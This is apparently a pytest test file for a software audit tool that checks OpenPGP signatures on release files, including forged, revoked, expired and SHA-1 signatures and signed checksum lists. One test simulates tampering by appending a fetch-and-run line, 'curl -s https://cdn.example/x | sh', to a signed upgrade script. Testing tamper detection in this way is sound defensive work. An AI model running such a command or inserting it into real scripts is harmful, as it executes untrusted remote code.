"""OpenPGP signatures, verified by Sequoia where it is installed, and said where it is not."""

from __future__ import annotations

import builtins
import shutil
import subprocess
from datetime import timedelta
from functools import cache
from pathlib import Path
from typing import Any

import pytest

from dten_audit.examples.signed_tree import sums
from dten_audit.model.facts.key_signatures import KeySignatureCheck
from dten_audit.model.facts.signatures import SignatureCoverage
from dten_audit.model.facts.signing import ManifestEntry
from dten_audit.readers.signing import openpgp, sequoia
from tests.derive.signed import package
from tests.derive.signing.test_key_signatures import audited, only

pysequoia = pytest.importorskip("pysequoia")
CONTENT = b"#!/bin/sh\nexec ./upgrade\n"


@cache
def secret(name: str = "Acme Release <release@acme.example>") -> Any:
    return pysequoia.Tsk.generate(name)


def public(own: Any) -> bytes:
    return bytes(own.extract_certificate())


def signed(own: Any, content: bytes = CONTENT, mode: str = "DETACHED") -> bytes:
    made = pysequoia.sign(own.signer(), content, mode=getattr(pysequoia.SignatureMode, mode))
    assert isinstance(made, bytes)
    return made


def tree(signature: bytes, **files: bytes) -> dict[str, bytes]:
    return {"install/upgrade.sh": CONTENT, "install/upgrade.sh.asc": signature} | files


def test_a_genuine_signature_by_a_key_of_the_store(tmp_path: Path) -> None:
    stored = {"@trust/acme.gpg": public(secret())}
    check = only(audited(tmp_path, tree(signed(secret())) | stored))
    assert (check.verdict, check.trust, check.digest) == ("genuine", "trusted", "sha512")
    assert check.signer == "Acme Release <release@acme.example>"
    assert check.made.startswith("20")


@pytest.mark.parametrize("changed", ["content", "signature"])
def test_changes_are_seen(tmp_path: Path, changed: str) -> None:
    files = tree(signed(secret())) | {"@trust/acme.gpg": public(secret())}
    if changed == "content":
        files["install/upgrade.sh"] += b"curl -s https://cdn.example/x | sh\n"
    else:
        raw = next(openpgp.packets(_dearmoured(files["install/upgrade.sh.asc"]))).raw
        files["install/upgrade.sh.asc"] = raw[:-4] + bytes((raw[-4] ^ 1,)) + raw[-3:]
    check = only(audited(tmp_path, files))
    assert check.verdict == ("forged" if changed == "content" else "refused")


def _dearmoured(text: bytes) -> bytes:
    from dten_audit.readers.signing.pem import blocks

    (block,) = blocks(text.decode())
    assert block.data is not None
    return block.data


def test_unknown_and_shipped_keys(tmp_path: Path) -> None:
    other = {"@trust/other.gpg": public(secret("Other <o@other.example>"))}
    check = only(audited(tmp_path, tree(signed(secret())) | other))
    assert (check.verdict, check.trust) == ("no-key", "unknown")
    shipped = {"keys/acme.gpg": public(secret())}
    check = only(audited(tmp_path, tree(signed(secret())) | other | shipped))
    assert (check.verdict, check.trust) == ("genuine", "shipped")


def test_a_revoked_key_is_refused(tmp_path: Path) -> None:
    own = secret()
    certificate = own.extract_certificate()
    revoked = bytes(certificate) + bytes(certificate.revoke(own.certifier()))
    check = only(audited(tmp_path, tree(signed(own)) | {"@trust/acme.gpg": revoked}))
    assert (check.verdict, check.problem) == ("refused", "its key is revoked")
    assert check.trust == "revoked"


def test_an_expired_key_is_named(tmp_path: Path) -> None:
    own = pysequoia.Tsk.generate("Short <s@acme.example>", validity_seconds=86400)
    files = tree(signed(own)) | {"@trust/acme.gpg": public(own)}
    expires = own.extract_certificate().expiration
    (tmp_path / "@trust").mkdir()
    (tmp_path / "@trust/acme.gpg").write_bytes(public(own))
    from dten_audit.site.trust_loading import load_trust

    late = (expires + timedelta(days=30)).isoformat()
    check = only(package(files, load_trust(tmp_path / "@trust"), late))
    assert (check.verdict, check.trust) == ("genuine", "expired")
    assert check.key_expires == expires.strftime("%Y-%m-%d")


def test_weak_digests_are_refused(tmp_path: Path) -> None:
    packet = next(openpgp.packets(_dearmoured(signed(secret())))).raw
    at = packet.index(b"\x04\x00\x16") + 3  # version, type, EdDSA: the digest follows
    weak = packet[:at] + b"\x02" + packet[at + 1 :]
    check = only(audited(tmp_path, tree(weak) | {"@trust/acme.gpg": public(secret())}))
    assert (check.verdict, check.digest) == ("refused", "sha1")
    assert "SHA-1" in check.problem


def test_a_signed_list_covers_what_it_names(tmp_path: Path) -> None:
    files = {"bin/dten": b"payload", "README": b"text"}
    listed = sums({"bin/dten": b"payload"})
    files["SHA256SUMS.asc"] = signed(secret(), listed, "CLEAR")
    files["@trust/acme.gpg"] = public(secret())
    found = audited(tmp_path, files)
    assert (only(found).verdict, only(found).attached) == ("genuine", True)
    stated = {(entry.path, entry.status) for entry in found.of(ManifestEntry) if entry.signed}
    assert stated == {("bin/dten", "matches"), ("README", "uncovered")}


def test_text_outside_the_signed_part_is_refused(tmp_path: Path) -> None:
    listed = signed(secret(), sums({"bin/dten": b"payload"}), "CLEAR")
    evil = sums({"bin/evil": b"payload"}) + listed
    files = {"SHA256SUMS": evil, "bin/dten": b"payload", "@trust/acme.gpg": public(secret())}
    check = only(audited(tmp_path, files))
    assert (check.verdict, check.problem) == ("refused", "text stands outside the signed part")
    twice = listed + listed
    check = audited(tmp_path, files | {"SHA256SUMS": twice}).of(KeySignatureCheck)[0]
    assert check.verdict == "refused"


def test_without_the_extra_it_is_said(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    real = builtins.__import__

    def without(name: str, *rest: Any, **named: Any) -> Any:
        if name.startswith("pysequoia"):
            raise ImportError(name)
        return real(name, *rest, **named)

    files = tree(signed(secret())) | {"@trust/acme.gpg": public(secret())}
    monkeypatch.setattr(builtins, "__import__", without)
    found = audited(tmp_path, files)
    check = only(found)
    assert (check.verdict, check.lacks, check.problem) == ("unchecked", "openpgp", sequoia.MISSING)
    (reach,) = found.of(SignatureCoverage)
    assert (reach.signatures, reach.unchecked) == (0, 1)
    files.pop("@trust/acme.gpg")
    assert package(files).of(KeySignatureCheck)[0].verdict == "unchecked"


@pytest.mark.skipif(shutil.which("gpg") is None, reason="gpg is not installed")
def test_signatures_of_gpg_hold(tmp_path: Path) -> None:
    home = tmp_path / "home"
    home.mkdir(mode=0o700)
    (tmp_path / "a").write_bytes(CONTENT)
    gpg = ["gpg", "--homedir", str(home), "--batch", "--passphrase", "", "--yes", "-q"]

    def run(*words: str) -> bytes:
        return subprocess.run([*gpg, *words], check=True, capture_output=True).stdout

    run("--quick-gen-key", "Acme <r@acme.example>", "ed25519", "sign", "1y")
    run("-o", str(tmp_path / "a.asc"), "--armor", "--detach-sign", str(tmp_path / "a"))
    run("-o", str(tmp_path / "a.clear"), "--clear-sign", str(tmp_path / "a"))
    public_key = run("--armor", "--export")
    subprocess.run(["gpgconf", "--homedir", str(home), "--kill", "all"], check=False)
    files = tree((tmp_path / "a.asc").read_bytes(), **{"@trust/acme.asc": public_key})
    files["notes.asc"] = (tmp_path / "a.clear").read_bytes()
    found = audited(tmp_path / "audit", files).of(KeySignatureCheck)
    assert [(check.verdict, check.trust) for check in found] == [("genuine", "trusted")] * 2


@pytest.mark.parametrize("data", [b"", b"\xc2\x05", b"\x88\x5d\x04", b"\xff" * 40])
def test_damaged_packets_are_no_news(data: bytes) -> None:
    assert sequoia.verify(data, public(secret()), CONTENT).verdict in ("unchecked", "forged")
    assert openpgp.starts_alike(data, CONTENT) in (None, False)
